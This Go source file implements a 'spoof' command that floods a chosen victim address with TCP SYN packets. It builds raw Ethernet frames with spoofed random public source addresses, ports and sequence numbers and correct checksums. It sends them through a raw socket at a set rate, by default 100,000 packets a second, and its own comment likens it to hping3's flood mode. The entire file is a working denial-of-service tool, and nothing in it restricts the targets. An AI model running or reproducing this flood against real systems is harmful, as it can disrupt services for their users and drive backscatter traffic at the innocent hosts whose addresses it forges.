package actor

import (
	"context"
	"encoding/binary"
	"flag"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"syscall"
	"time"
)

// spoof sends SYNs with random sources at a rate, each a flow of its own: what
// hping3 --flood --rand-source does, but as fast as said.
func spoof(ctx context.Context, args []string) error {
	f := flag.NewFlagSet("spoof", flag.ContinueOnError)
	device := f.String("dev", "eth0", "interface")
	to := f.String("to", "", "victim")
	mac := f.String("mac", "", "hardware address of the next hop")
	rate := f.Int("rate", 100000, "packets a second")
	length := f.Duration("for", 10*time.Second, "how long")
	seed := f.Uint64("seed", 1, "of everything random")
	if err := Parse(f, args); err != nil {
		return err
	}
	victim, err := netip.ParseAddr(*to)
	if err != nil {
		return err
	}
	hop, err := net.ParseMAC(*mac)
	if err != nil {
		return err
	}
	fd, err := rawSocket(*device)
	if err != nil {
		return err
	}
	defer syscall.Close(fd)
	frame := synFrame(hop, victim)
	rng := rand.New(rand.NewPCG(*seed, 0))
	began := time.Now()
	sent := 0
	for elapsed := time.Duration(0); elapsed < *length && ctx.Err() == nil; elapsed = time.Since(began) {
		due := int(elapsed.Seconds() * float64(*rate))
		due = min(due, sent+*rate/100) // what was not sent in time is not made up for at once
		for ; sent < due; sent++ {
			aim(frame, rng)
			_, _ = syscall.Write(fd, frame) // a full queue loses it, as a wire does
		}
		time.Sleep(time.Millisecond)
	}
	fmt.Printf("sent %d packets in %.1f s, %.0f a second\n", sent, time.Since(began).Seconds(), float64(sent)/time.Since(began).Seconds())
	return nil
}

// synFrame is an Ethernet frame with a SYN to port 80; aim fills in the rest.
func synFrame(hop net.HardwareAddr, victim netip.Addr) []byte {
	b := make([]byte, 60)
	copy(b, hop)
	b[6] = 2 // a source address of local administration
	b[12], b[14], b[17], b[22], b[23] = 8, 0x45, 40, 64, 6
	copy(b[30:34], victim.AsSlice())
	b[37], b[46], b[47] = 80, 0x50, 2
	b[48] = 4 // window 1024
	return b
}

func aim(b []byte, rng *rand.Rand) {
	r := rng.Uint64()
	// 11.0.0.0 to 126.255.255.255: no private, loopback or group addresses.
	b[26] = byte(11 + r%116)
	binary.BigEndian.PutUint16(b[27:], uint16(r>>8))
	b[29] = byte(r >> 24)
	binary.BigEndian.PutUint16(b[34:], uint16(1024+(r>>32)%60000))
	binary.BigEndian.PutUint32(b[38:], rng.Uint32())
	b[24], b[25], b[50], b[51] = 0, 0, 0, 0
	binary.BigEndian.PutUint16(b[24:], ^fold(b[14:34], 0))
	// RFC 9293: the sum over the addresses, the protocol and the length.
	binary.BigEndian.PutUint16(b[50:], ^fold(b[34:54], uint32(fold(b[26:34], 6+20))))
}

func fold(b []byte, sum uint32) uint16 {
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(b[i])<<8 | uint32(b[i+1])
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return uint16(sum)
}
